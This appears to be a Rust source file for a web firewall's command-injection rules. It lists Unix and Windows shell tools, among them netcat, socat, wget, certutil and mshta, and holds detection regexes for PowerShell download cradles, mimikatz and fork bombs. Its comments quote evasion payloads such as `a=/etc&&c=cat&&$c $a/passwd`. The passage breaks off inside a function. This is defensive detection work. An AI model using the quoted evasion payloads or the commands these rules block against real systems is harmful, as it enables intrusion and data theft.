//! OS command injection, Unix and Windows (CRS 932xxx territory).
//!
//! The core signal is a command word where a shell would start a command: after `;`, `|`,
//! `&`, `&&`, `||`, a newline, a backtick or `$(`, or at the very start of a value when it is
//! followed by shell-looking arguments. Commands are split in two lists: words that are never
//! English (`whoami`, `wget`, `chmod`) fire after any separator; words that are (`cat`, `find`,
//! `kill`) need an option, a path or a variable as argument. Rules read the `cmdline` view, so
//! quote and backslash evasion (`w'h'o'am'i`, `c\at`), `$IFS` and `${x}` tricks are undone.
//! Shell syntax that is an attack on its own (Shellshock, `$(...)`, brace expansion, fork
//! bombs, history and tilde expansion, PowerShell cmdlets, Windows `FOR`/`IF`) has its own rules.

use super::builtin::{RxRule, View};
use super::{RuleHit, Value};
use crate::category::COMMAND_INJECTION as CAT;
use crate::placement::scope;
use crate::Severity::Critical;

/// Where command rules look: parameters and their names, cookies, XML/multipart fields.
const WHERE: u32 = scope::PAYLOAD;

/// Commands that are not English words: any separator before them is enough.
pub const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "nc",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "sh",
    "python3",
    "nmap",
    "ifconfig",
    "chmod",
    "chown",
    "chgrp",
    "rm",
    "mkfifo",
    "mknod",
    "telnet",
    "socat",
    "busybox",
    "base64",
    "xxd",
    "nslookup",
    "netstat",
    "pkill",
    "killall",
    "crontab",
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "passwd",
    "sudo",
    "printenv",
    "nohup",
    "setsid",
    "chroot",
    "systemctl",
    "lastlog",
    "getent",
    "hexdump",
    "openssl",
    "rsync",
    "sendmail",
    "aria2c",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "wmic",
    "systeminfo",
    "tasklist",
    "taskkill",
    "schtasks",
    "icacls",
    "cacls",
    "ipconfig",
    "netsh",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "msiexec",
    "bcdedit",
    "bcdboot",
    "vssadmin",
    "wevtutil",
    "takeown",
    "nltest",
    "dsquery",
    "tftp",
    "scp",
    "ssh",
    "uptime",
    "ldd",
    "traceroute",
    "tracert",
    "whois",
    "sqlite3",
    "nmcli",
    "iptables",
    "insmod",
    "modprobe",
    "dmesg",
    "lsof",
    "fuser",
    "strace",
    "ltrace",
    "gdb",
    "objdump",
    "readelf",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "egrep",
    "fgrep",
    "grep",
    "pwd",
    "tac",
    "nl",
    "xterm",
    "unshare",
    "nsenter",
    "ncat",
    "cmd",
    "regedit",
    "reg",
    "sh5",
    "bsh",
    // Package managers, configuration management, tracing and other admin tools.
    "apt-get",
    "aptitude",
    "dpkg",
    "rpm",
    "dnf",
    "zypper",
    "opkg",
    "pipx",
    "easy_install",
    "cpan",
    "ansible",
    "ansible-playbook",
    "ansible-vault",
    "ansible-galaxy",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-inventory",
    "ansible-pull",
    "chef-client",
    "chef-shell",
    "chef-run",
    "chef-vault",
    "cscli",
    "visudo",
    "vipw",
    "vigr",
    "perf",
    "flock",
    "cpulimit",
    "bsdtar",
    "irb",
    "c89",
    "c99",
    "rmt",
    "rmt-tar",
    "rmt-dump",
    "lastlogin",
    "aa-disable",
    "aa-status",
    "apparmor_parser",
    "htop",
    "btop",
    "base32",
    "basenc",
    "bpftrace",
    "busctl",
    "capsh",
    "certbot",
    "cpio",
    "csplit",
    "debugfs",
    "dmidecode",
    "dmsetup",
    "exiftool",
    "fping",
    "gcore",
    "hping3",
    "nping",
    "iconv",
    "ionice",
    "journalctl",
    "jjs",
    "jrunscript",
    "ldconfig",
    "lftp",
    "loginctl",
    "logsave",
    "lwp-download",
    "lwp-request",
    "mawk",
    "nawk",
    "minicom",
    "msfconsole",
    "msfvenom",
    "nasm",
    "ncftp",
    "neofetch",
    "nft",
    "ntpdate",
    "openvpn",
    "openvt",
    "pdflatex",
    "pkexec",
    "psftp",
    "rlogin",
    "rlwrap",
    "rpmquery",
    "setarch",
    "setfacl",
    "getfacl",
    "shuf",
    "smbclient",
    "sshpass",
    "ssh-keygen",
    "ssh-keyscan",
    "ssh-copy-id",
    "ssh-agent",
    "start-stop-daemon",
    "stdbuf",
    "sysctl",
    "systemd-run",
    "taskset",
    "tclsh",
    "tcpdump",
    "tshark",
    "timedatectl",
    "tmux",
    "torify",
    "torsocks",
    "unsquashfs",
    "update-alternatives",
    "uudecode",
    "uuencode",
    "valgrind",
    "virsh",
    "whiptail",
    "xdotool",
    "yash",
    "hashcat",
    "podman",
    "crictl",
    "kubeadm",
    "sqlmap",
    "gpg",
    "ftp",
    "sftp",
    "nsupdate",
    "arping",
    "ncat",
    "rcp",
    "rsh",
];

/// Commands that are English words too: they need shell-looking arguments.
pub const WEAK: &[&str] = &[
    "cat",
    "ls",
    "id",
    "ps",
    "ping",
    "echo",
    "printf",
    "env",
    "export",
    "eval",
    "exec",
    "sleep",
    "timeout",
    "find",
    "tee",
    "head",
    "tail",
    "more",
    "less",
    "vi",
    "vim",
    "nano",
    "diff",
    "file",
    "stat",
    "touch",
    "mkdir",
    "cp",
    "mv",
    "ln",
    "df",
    "du",
    "free",
    "top",
    "history",
    "set",
    "source",
    "kill",
    "wall",
    "mail",
    "fetch",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "dd",
    "od",
    "strings",
    "cut",
    "sort",
    "uniq",
    "wc",
    "column",
    "dig",
    "host",
    "who",
    "last",
    "groups",
    "mount",
    "make",
    "java",
    "javac",
    "node",
    "type",
    "dir",
    "copy",
    "del",
    "net",
    "sc",
    "route",
    "arp",
    "cd",
    "ip",
    "ss",
    "su",
    "time",
    "watch",
    "nice",
    "rev",
    "paste",
    "split",
    "join",
    "expand",
    "fold",
    "look",
    "locate",
    "which",
    "whereis",
    "apt",
    "yum",
    "pip",
    "npm",
    "gem",
    "git",
    "svn",
    "ftp",
    "start",
    "call",
    "ver",
    "vol",
    "rd",
    "md",
    "python",
    "python2",
    "perl",
    "ruby",
    "php",
    "lua",
    "dash",
    "lynx",
    "docker",
    "kubectl",
    "mysql",
    "psql",
    "gcc",
    "w3m",
    "trap",
    "ll",
    "ex",
    "script",
    "screen",
    "aws",
    "helm",
    "terraform",
    "knife",
    "view",
    "date",
    "rc",
    "chef",
    "pip3",
    "yarn",
    "cargo",
    "composer",
    "conda",
    "brew",
    "apk",
];

/// Weak commands that are an attack even with no argument at the end of a value after a
/// separator (`;id`, `|ls`): none of them ends an English sentence.
pub const BARE: &[&str] = &[
    "ls", "id", "ps", "pwd", "env", "dir", "ver", "vol", "uname", "whoami",
];

/// Strong commands that are also common words, codes or product names in data (`nc` the US
/// state, `rpm`, `curl` the exercise, `nft`, `pwd` for password): they start a command only
/// with shell-looking arguments, never with plain words.
pub const AMBIGUOUS: &[&str] = &[
    "curl",
    "nc",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "sh",
    "rm",
    "telnet",
    "base64",
    "base32",
    "passwd",
    "openssl",
    "rsync",
    "sendmail",
    "powershell",
    "tftp",
    "scp",
    "ssh",
    "sftp",
    "ftp",
    "uptime",
    "traceroute",
    "whois",
    "sqlite3",
    "fuser",
    "gdb",
    "awk",
    "sed",
    "grep",
    "pwd",
    "tac",
    "nl",
    "unshare",
    "cmd",
    "reg",
    "aptitude",
    "rpm",
    "dnf",
    "perf",
    "flock",
    "irb",
    "c89",
    "c99",
    "rmt",
    "certbot",
    "iconv",
    "nasm",
    "nft",
    "openvpn",
    "pdflatex",
    "tmux",
    "valgrind",
    "yash",
    "podman",
    "gpg",
    "rcp",
    "rsh",
    "bsh",
    "sh5",
    "cpan",
    "htop",
    "btop",
    "crontab",
    "wget",
    "lastlogin",
    "egrep",
    "fgrep",
    "xterm",
    "cpio",
    "shuf",
];

/// Strong commands that are nothing but commands: at the start of a value, followed by any
/// argument (`ansible-config dump`, `cscli alerts list`) or alone, they are a command line.
pub fn unambiguous() -> Vec<&'static str> {
    STRONG
        .iter()
        .copied()
        .filter(|w| !AMBIGUOUS.contains(w))
        .collect()
}

/// Weak commands that commonly start ordinary values (`sort -name`, `date -1d`): never read as
/// a command at the start of a value.
const START_EXCLUDED: &[&str] = &[
    "sort", "date", "time", "top", "set", "type", "more", "less", "head", "tail", "make", "file",
    "host", "copy", "free", "last", "who", "mail", "write", "at", "route", "net", "start", "call",
    "look", "join", "split", "fold", "expand", "paste", "nice", "watch", "rev", "which", "locate",
    "groups", "cut", "source", "stat", "touch", "del", "md", "rd", "vol", "ver", "dir", "sc", "ss",
];

fn alt(words: &[&str]) -> String {
    let mut w: Vec<&str> = words.to_vec();
    // Longest first so `python3` wins over `python` in the alternation.
    w.sort_by(|a, b| b.len().cmp(&a.len()).then(a.cmp(b)));
    w.dedup();
    w.iter()
        .map(|s| regex::escape(s))
        .collect::<Vec<_>>()
        .join("|")
}

/// Optional path before a command: `/bin/`, `/usr/local/sbin/`, `c:\windows\system32\`.
const BIN: &str = r"(?:(?:/usr)?(?:/local)?/s?bin/|[a-z]:[/\\](?:windows[/\\]system32[/\\])?)?";

/// Commands that run the command after them (`time curl ...`, `nice -n 5 sh ...`).
const PREFIX: &str = r"(?:(?:sudo|time|nice(?:\s+-n\s*-?\d+)?|nohup|timeout\s+\d+[smh]?|env(?:\s+[a-z_]+=\S*)*|strace|ltrace|stdbuf(?:\s+-\S+)*|ionice|chroot\s+\S+|exec|command|builtin|busybox)\s+)*";

/// A version glued to a command name (`python3.10`, `gcc10.1`).
const VER: &str = r"(?:\d+(?:\.\d+)*)?";

/// Separator that starts a command.
const SEP: &str = r"(?:^|[;|&\n`(]|\$\()\s*";

/// Shell-looking argument: an option, a path, a variable, a redirect, a URL, a file name with
/// a script, data or archive extension, a host name.
const SHELL_ARG: &str = r#"\s+(?:-{1,2}[a-z0-9]|[/~$.\\<>|]|[a-z]:\\|https?:|\{|\d+\s*[|;&]|[a-z0-9_-]+\.(?:[a-z0-9_-]+\.)*(?:txt|sh|bash|py|pl|rb|php|log|conf|cfg|ini|sql|db|bak|tar|gz|tgz|zip|so|exe|bat|ps1|js|json|xml|ya?ml|key|pem|csv|com|org|net|io)(?:$|[\s;|&<>`)]))"#;

fn literals(words: &[&'static str]) -> Vec<std::borrow::Cow<'static, str>> {
    words
        .iter()
        .map(|w| std::borrow::Cow::Borrowed(*w))
        .collect()
}

/// The table rules.
pub fn rules() -> Vec<RxRule> {
    let strong = alt(STRONG);
    let weak = alt(WEAK);
    let bare = alt(BARE);
    let unamb = alt(&unambiguous());
    let mut cmd_after_sep = RxRule::new(
        "rce.unix_command",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[],
        format!(
            r"(?:{SEP}{PREFIX}{BIN}(?:{strong}){VER}(?:\.exe)?(?:$|[\s;|&<>`)]|\$\()|{SEP}{PREFIX}{BIN}(?:{weak}){VER}(?:\.exe)?(?:{SHELL_ARG}|\s*[<>`]|\s*[;|&]+\s*(?:{strong}|{weak})(?:$|[\s;|&<>`])|\s+(?:{unamb})(?:$|\s))|[;|&\n`]\s*(?:{bare})\s*(?:$|[;|&`)]))"
        ),
    );
    // `^cmd` alone is the value's start; a separator must have been seen for every other
    // alternative, so literals are the separators plus a start-of-value command word.
    cmd_after_sep.literals = literals(&[";", "|", "&", "\n", "`", "$(", "("]);
    let weak_start: Vec<&str> = WEAK
        .iter()
        .copied()
        .filter(|w| !START_EXCLUDED.contains(w))
        .collect();
    let weak_start = alt(&weak_start);
    let cmd_at_start = {
        let mut r = RxRule::new(
            "rce.unix_command_start",
            CAT,
            Critical,
            1,
            View::Cmdline,
            WHERE,
            &[],
            format!(
                r"^\s*{PREFIX}{BIN}(?:(?:{strong}){VER}(?:\.exe)?{SHELL_ARG}|(?:{weak_start}){VER}(?:\.exe)?{SHELL_ARG})"
            ),
        );
        let mut l: Vec<&'static str> = STRONG.to_vec();
        l.extend_from_slice(WEAK);
        l.extend_from_slice(&[
            "sudo", "time", "nice", "nohup", "timeout", "env", "strace", "ltrace", "stdbuf",
            "ionice", "chroot", "exec", "command", "builtin", "busybox",
        ]);
        r.literals = literals(&l);
        r.start_words = true;
        r
    };
    let bin_path = RxRule::new(
        "rce.bin_path",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &["/bin/", "/sbin/"],
        r#"(?:^|[\s;|&`(=])(?:/usr)?(?:/local)?/s?bin/(?:[a-z0-9_.+-]+)(?:$|[\s;|&<>`)])"#,
    );
    // `bin/cscli`, `sbin/visudo`: a relative binary directory before a command name.
    let bin_relative = RxRule::new(
        "rce.bin_relative",
        CAT,
        Critical,
        2,
        View::Cmdline,
        WHERE,
        &["bin/"],
        format!(
            r"(?:^|[\s;|&`(=])s?bin/(?:{strong}|{weak}|[a-z0-9]+-[a-z0-9-]+){VER}(?:$|[\s;|&<>`)])"
        ),
    );
    let substitution = RxRule::new(
        "rce.shell_substitution",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["$(", "${", "<(", ">(", "`"],
        format!(
            r"\$\(\s*[a-z/(]|\$\{{\s*(?:{strong}|{weak})\b[^{{}}]{{0,64}}\}}|(?:^|[\s;|&])[<>]\(\s*[a-z/]|`\s*(?:{strong}|{weak})(?:\s[^`]*)?`"
        ),
    );
    // `${HOME}`, `${PATH}`: an environment variable's upper-case name in braces. Paranoia 2; a
    // lower-case `${name}` is a template placeholder as often (paranoia 3).
    let variable = RxRule::new(
        "rce.shell_variable",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &["${"],
        r"\$\{[A-Z_][A-Z0-9_]{0,63}\}",
    );
    let variable_any = RxRule::new(
        "rce.shell_variable_any",
        CAT,
        Critical,
        3,
        View::Folded,
        WHERE,
        &["${"],
        r"\$\{[^{}\s]{1,64}\}",
    );
    let shellshock = RxRule::new(
        "rce.shellshock",
        CAT,
        Critical,
        1,
        View::Folded,
        scope::ALL,
        &["("],
        r"^\s*\(\s*\)\s*\{",
    );
    let windows = RxRule::new(
        "rce.windows_command",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[
            "cmd",
            "powershell",
            "pwsh",
            "certutil",
            "bitsadmin",
            "wmic",
            "reg",
            "net",
            "schtasks",
            "tasklist",
            "taskkill",
            "systeminfo",
            "ipconfig",
            "netsh",
            "mshta",
            "rundll32",
            "regsvr32",
            "cscript",
            "wscript",
            "bcdboot",
            "bcdedit",
            "vssadmin",
            "type",
            "dir",
            "copy",
            "del",
            "at ",
            "start",
        ],
        r"(?:^|[;&|\n])\s*(?:cmd(?:\.exe)?\s*/[ckr]|(?:powershell|pwsh)(?:\.exe)?(?:\s|$)|certutil(?:\.exe)?\s+-|bitsadmin(?:\.exe)?\s+/|wmic(?:\.exe)?\s|reg(?:\.exe)?\s+(?:add|query|delete|save|export|import)\s|regedit(?:\.exe)?\s+/|net1?(?:\.exe)?\s+(?:user|localgroup|group|view|use|share|start|stop|accounts|session)\b|schtasks(?:\.exe)?\s+/|tasklist(?:\.exe)?\b|taskkill(?:\.exe)?\s+/|systeminfo(?:\.exe)?\b|ipconfig(?:\.exe)?\b|netsh(?:\.exe)?\s|mshta(?:\.exe)?\s|rundll32(?:\.exe)?\s|regsvr32(?:\.exe)?\s|[cw]script(?:\.exe)?\s|bcdboot(?:\.exe)?[\s/]|bcdedit(?:\.exe)?[\s/]|vssadmin(?:\.exe)?\s|(?:type|dir|copy|del)\s+(?:[a-z]:\\|/[a-z]\b|\\\\)|at\s+\d{1,2}:\d\d|start\s+(?:/b\s+)?[a-z]+\.exe)",
    );
    let powershell = RxRule::new(
        "rce.powershell",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE | scope::HEADER,
        &[
            "invoke-",
            "new-object",
            "downloadstring",
            "downloadfile",
            "start-process",
            "set-executionpolicy",
            "-encodedcommand",
            "-enc ",
            "iex",
            "iwr",
            "irm",
            "iwmi",
            "get-wmiobject",
            "frombase64string",
            "add-mppreference",
            "-noprofile",
            "-windowstyle",
            "-executionpolicy",
        ],
        r"invoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)\b|new-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets)|\.download(?:string|file|data)\s*\(|start-process\b|set-executionpolicy\b|-encodedcommand\b|\s-enc\s+[a-z0-9+/=]{16,}|(?:^|[;|&\s(])iex\s*[($]|(?:^|[;|&])\s*(?:iwr|irm)\s+\S|(?:^|[;|&])\s*iwmi\s+-|get-wmiobject\s+|\[(?:system\.)?convert\]::frombase64string|add-mppreference\b|\s-(?:noprofile|windowstyle\s+hidden|executionpolicy\s+bypass)\b",
    );
    let windows_for = RxRule::new(
        "rce.windows_for_if",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["for", "if"],
        r#"\bfor\s+(?:/[a-z](?:\s+"[^"]*"|\s+[^\s%]+)?\s+)*%{1,2}\S{1,24}\s+in\s*\(|\bif\s*(?:/i\s+|\s)(?:not\s+)?(?:exist\s|defined\s|errorlevel\s+\d|cmdextversion\s|(?:"[^"]{0,40}"|\S{1,40})\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s))"#,
    );
    let glob = RxRule::new(
        "rce.path_glob",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[
            "/bin", "/usr", "/etc", "/tmp", "/dev", "/proc", "/var", "/sbin", "/home", "/root",
            "/opt", "/lib", "$[",
        ],
        r"(?:^|[\s;|&`=])/(?:bin|usr|etc|tmp|dev|proc|var|sbin|home|root|opt|lib)/[a-z0-9_./-]*\[!?\^?[a-z0-9-]{1,12}\][a-z0-9_./-]*|\$\[\s*(?:\]|[^\]]{0,40}[-+*/%<>=]\s*\d[^\]]{0,40}\])",
    );
    let param_expansion = RxRule::new(
        "rce.parameter_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["${", "$shell", "$bash", "$0"],
        r"\$\{[a-z_][a-z0-9_]*(?:[#%^,]|:[-=?+]|/|:\d)|\$\{#?[a-z_][a-z0-9_]*\[[@*]\]\}|\$\{![a-z_]|(?:^|[\s;|&`])\$(?:\{(?:shell|bash|0)\}|shell|bash|0)\s+-c\b",
    );
    let empty_subst = RxRule::new(
        "rce.empty_substitution",
        CAT,
        Critical,
        2,
        View::Folded,
        WHERE,
        &["$()", "``", "<()", ">()", "${}"],
        r"[a-z0-9](?:\$\(\s*\)|``|[<>]\(\s*\)|\$\{\s*\})|(?:\$\(\s*\)|``|[<>]\(\s*\)|\$\{\s*\})[a-z0-9]",
    );
    let brace = RxRule::new(
        "rce.brace_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["{"],
        r#"[a-z]\{[a-z0-9_./-]*,[a-z0-9_./ -]*\}|\{[a-z0-9_./-]*,[a-z0-9_./ -]*\}[a-z]|\{,[a-z/$'"\\]|\{[a-z]+,-[a-z]"#,
    );
    let brace_pl2 = RxRule::new(
        "rce.brace_expansion_any",
        CAT,
        Critical,
        2,
        View::Folded,
        WHERE,
        &["{"],
        r"\{[a-z0-9_./-]*[a-z_./][a-z0-9_./-]*(?:,[a-z0-9_./# -]*)+\}|\{[0-9]+(?:,[a-z0-9_./# -]*)*,[a-z0-9_./# -]*[a-z_./][a-z0-9_./# -]*\}",
    );
    let evasion = RxRule::new(
        "rce.ifs_evasion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["$ifs", "${ifs", "$@", "$*"],
        r"\$\{?ifs\b|[a-z]\$[@*][a-z]",
    );
    let wildcard = RxRule::new(
        "rce.path_wildcard",
        CAT,
        Critical,
        2,
        View::Cmdline,
        WHERE,
        &["?", "*", "${"],
        r"(?:^|[\s;|&`=])/(?:bin|usr|etc|tmp|dev|proc|var|sbin|home|root|opt|lib)/[a-z0-9?*/]*[?*]|/[a-z?]*\?[a-z?]*/[a-z?*]*[?*]|(?:^|[\s/])(?:etc|bin)/\$\{?[a-z0-9_]*\}?[a-z]+",
    );
    let alias = RxRule::new(
        "rce.alias",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &["alias"],
        r"(?:^|[\s;|&`])alias\s+(?:[-+][a-z+]+\s+)*[a-z0-9_.-]+=",
    );
    let history = RxRule::new(
        "rce.history_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["!-"],
        r"(?:^|[\s;|&!])!-\d+(?:$|[\s!;|&])",
    );
    let tilde = RxRule::new(
        "rce.tilde_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["~+", "~-"],
        r"(?:^|[\s;|&])~[+-]\d{0,3}(?:$|[\s/;|&])",
    );
    let fork_bomb = RxRule::new(
        "rce.fork_bomb",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE | scope::USER_AGENT | scope::REFERER,
        &["()"],
        r"\(\)\s*\{[^}]{0,24}\|[^}]{0,24}&\s*\}",
    );
    let sqlite = RxRule::new(
        "rce.sqlite_shell",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &[".shell", ".system", ". shell", ". system"],
        r#"(?im)(?:^|[;\n])[\s;"']*\.\s*(?:shell|system)\s+\S"#,
    );
    let mail = RxRule::new(
        "rce.mail_protocol_command",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &["\n", "\r"],
        r"(?i)[\r\n]\s*(?:mail\s+from\s*:|rcpt\s+to\s*:|helo\s+\S|ehlo\s+\S|vrfy\s+\S|expn\s+\S|data\s*(?:[\r\n]|$)|quit\s*(?:[\r\n]|$)|rset\s*(?:[\r\n]|$)|starttls\b|auth\s+(?:login|plain|cram-md5)|retr\s+\d|dele\s+\d|(?:user|pass|apop)\s+\S+\s*(?:[\r\n]|$)|[a-z]{1,4}\d{1,4}\s+(?:authenticate|append|select|examine|login|fetch|store|copy|delete|capability|logout|list|lsub|status|uid|search|create|rename|subscribe)\b)",
    );
    let header_cmd = RxRule::new(
        "rce.unix_command_header",
        CAT,
        Critical,
        2,
        View::Cmdline,
        scope::USER_AGENT | scope::REFERER,
        &[";", "|", "&", "`", "$("],
        format!(r"(?:[;|&`]|\$\()\s*{PREFIX}{BIN}(?:{strong})(?:$|[\s;|&<>`)])"),
    );
    let start_header = cmd_at_start.also(
        "rce.unix_command_start_header",
        scope::USER_AGENT | scope::REFERER,
        2,
    );
    // A command that is nothing but a command, first in the value, with any argument
    // (`ansible-config dump`): paranoia 2, as a search for a tool name looks alike.
    let start_plain = {
        let mut r = RxRule::new(
            "rce.unix_command_start_plain",
            CAT,
            Critical,
            2,
            View::Cmdline,
            WHERE,
            &[],
            format!(r"^\s*{PREFIX}{BIN}(?:{unamb})(?:\.exe)?\s+\S"),
        );
        let mut l = unambiguous();
        l.extend_from_slice(&[
            "sudo", "time", "nohup", "strace", "ltrace", "stdbuf", "ionice",
        ]);
        r.literals = literals(&l);
        r.start_words = true;
        r
    };
    // A command runner (`nohup`, `strace`, `time`...) before a command word: prose has no
    // `nohup`, and `time` before a command that is nothing but a command is no English.
    let runner = RxRule::new(
        "rce.command_runner",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[
            "sudo", "nohup", "strace", "ltrace", "stdbuf", "ionice", "time", "timeout", "exec",
        ],
        format!(
            r"{SEP}(?:(?:sudo|nohup|strace|ltrace|stdbuf|ionice)\s+(?:-\S+\s+)*{BIN}(?:{strong}|{weak})|(?:time|timeout\s+\d+[smh]?|exec)\s+{BIN}(?:{unamb})){VER}(?:$|[\s;|&<>`)])"
        ),
    );
    // A package manager asked to install or run something: a supply-chain foothold.
    let package = {
        let mut r = RxRule::new(
            "rce.package_install",
            CAT,
            Critical,
            2,
            View::Cmdline,
            WHERE,
            &[],
            r"(?:^|[;|&`\n]|\$\()\s*(?:sudo\s+)?(?:pip[23x]?|python[23]?\s+-m\s+pip|npm|npx|yarn|pnpm|gem|apt(?:-get)?|yum|dnf|apk|brew|cargo|composer|conda|easy_install|go|opkg|zypper)\s+(?:install|i|add|uninstall|remove|run|exec|get)\s+\S",
        );
        r.literals = literals(&[
            "install",
            "uninstall",
            "remove",
            " i ",
            " add ",
            " run ",
            " exec ",
            " get ",
        ]);
        r
    };
    // An interpreter with its version glued on (`python3.10 x`, `;gcc10.1<<<...`).
    let versioned = RxRule::new(
        "rce.versioned_interpreter",
        CAT,
        Critical,
        2,
        View::Cmdline,
        WHERE,
        &[
            "python", "perl", "ruby", "php", "node", "gcc", "clang", "lua", "java",
        ],
        r"(?:^|[;|&`\n]|\$\()\s*(?:python|perl|ruby|php|node|gcc|g\+\+|clang|lua|java)\d+(?:\.\d+)+(?:\s+(?:-|/|\S+\.(?:py|pl|rb|php|js|c|sh)\b)|\s*(?:<<|[;|&<>`]))",
    );
    // A short command glued to a separator with no blank (`;top x`, `|who`): people write `; `
    // in prose, injected commands are written tight. Paranoia 2: the words are English.
    let tight = RxRule::new(
        "rce.unix_command_tight",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &[";", "|", "&", "`"],
        r"(?i)[;|`](?:who|w|uptime|id|env|ps|ls)(?:\s+[a-z0-9./-]|\s*$)",
    );
    // `\ls`: a backslash before a command word skips the user's aliases.
    let backslash = RxRule::new(
        "rce.backslash_command",
        CAT,
        Critical,
        1,
        View::Decoded,
        WHERE,
        &["\\"],
        format!(r"(?i)(?:^|[;|&`\s])\\(?:{bare}|{strong}){VER}(?:\s|$)"),
    );
    // `!cmd`: a shell escape in `vi`/`ex`/`less`/`ftp`, or a history event named after a
    // command.
    let bang = RxRule::new(
        "rce.bang_command",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &["!"],
        format!(r"(?:^|[\s+:;|&])!\s?(?:{strong}|{bare})(?:$|[\s;|&])"),
    );
    // A shell function whose body backgrounds or pipes into something, then a call: the fork
    // bomb shape with any names (`f(){ f|f& };f`).
    let function_def = RxRule::new(
        "rce.shell_function",
        CAT,
        Critical,
        2,
        View::Folded,
        WHERE | scope::USER_AGENT | scope::REFERER,
        &["()"],
        r"(?:^|[\s;|&])[a-z_:.][a-z0-9_:.]*\s*\(\)\s*\{[^{}]{0,60}[|&][^{}]{0,60};?\s*\}\s*;\s*[a-z_:.]",
    );
    // SQLite shell dot-commands after a statement end (`;\n.shell id`, `1;.sh whoami`): only
    // an attacker sends them to a web server.
    let sqlite_dot = RxRule::new(
        "rce.sqlite_dot_command",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &[
            "shell",
            "system",
            ".sh",
            ". sh",
            "databases",
            "tables",
            "dump",
            "once",
            "output",
            "load",
        ],
        r#"(?i)(?:^|;|\n|\\n)[\s;"'\\]*\.[\s"'\\]*(?:(?:shell|system|sh|once|output|load)\s+\S|(?:databases|tables|dump|dbinfo|schema)\s*(?:$|;|\n|\\n))"#,
    );
    // The same word alone (`whoami`): a probe, or a report format named `lastlog`.
    let mut start_alone = start_plain.also("rce.unix_command_alone", WHERE, 3);
    start_alone.pattern = format!(r"^\s*{PREFIX}{BIN}(?:{unamb})(?:\.exe)?\s*$").into();
    let mut out = vec![
        bin_relative,
        start_alone,
        start_plain,
        runner,
        package,
        versioned,
        tight,
        backslash,
        bang,
        function_def,
        sqlite_dot,
        start_header,
        cmd_after_sep,
        cmd_at_start,
        bin_path,
        substitution,
        variable,
        variable_any,
        shellshock,
        windows,
        powershell,
        windows_for,
        glob,
        param_expansion,
        empty_subst,
        brace,
        brace_pl2,
        evasion,
        wildcard,
        alias,
        history,
        tilde,
        fork_bomb,
        sqlite,
        mail,
        header_cmd,
    ];
    out.push(RxRule::new(
        "rce.shell_substitution_header",
        CAT,
        Critical,
        2,
        View::Folded,
        scope::HEADER,
        &["$(", "`"],
        r"\$\(\s*[a-z/(]|`\s*[a-z/]+[^`]*`",
    ));
    out
}

/// Longest value the code checks expand or re-read (longer ones are documents, not commands).
const MAX_EXPAND: usize = 4096;

/// Variables one value may assign at most before expansion stops.
const MAX_ASSIGNMENTS: usize = 32;

/// The table rules the code checks run again on text they derive (an expanded command line, a
/// parameter of the referring page), compiled once.
struct Rerun {
    /// (rule id, paranoia, regex) of the command rules.
    rules: Vec<(&'static str, u8, regex::Regex)>,
}

fn rerun() -> &'static Rerun {
    static RERUN: std::sync::OnceLock<Rerun> = std::sync::OnceLock::new();
    RERUN.get_or_init(|| {
        const IDS: &[&str] = &[
            "rce.unix_command",
            "rce.unix_command_start",
            "rce.unix_command_start_plain",
            "rce.command_runner",
            "rce.bin_path",
            "rce.path_wildcard",
            "rce.path_glob",
            "rce.brace_expansion",
        ];
        let rules = rules()
            .into_iter()
            .filter(|r| IDS.contains(&r.id))
            .map(|r| {
                let rx = regex::RegexBuilder::new(&r.pattern)
                    .size_limit(4 << 20)
                    .build()
                    .expect("command rule compiles");
                (r.id, r.paranoia, rx)
            })
            .collect();
        Rerun { rules }
    })
}

/// The lowest paranoia level at which a command rule matches `text` (a command-line view),
/// skipping rules that already matched `except` (the engine reported those).
fn command_level(text: &str, except: Option<&str>) -> Option<u8> {
    rerun()
        .rules
        .iter()
        .filter(|(_, _, rx)| rx.is_match(text) && !except.is_some_and(|e| rx.is_match(e)))
        .map(|(_, pl, _)| *pl)
        .min()
}

/// The command line a shell would run for `folded`, as far as one value tells: variables
/// assigned in it substituted (`a=/etc&&c=cat&&$c $a/passwd`), unset and special variables
/// removed (`c$u\at`, `c$!at`, `una$$me`), quotes and backslashes dropped, one-letter bracket
/// globs resolved (`/bi[n]/sh`, `adduse[r]`). `None` when there is nothing to expand.
pub fn expand(folded: &str) -> Option<String> {
    expand_at(folded, 0)
}

fn expand_at(folded: &str, depth: u8) -> Option<String> {
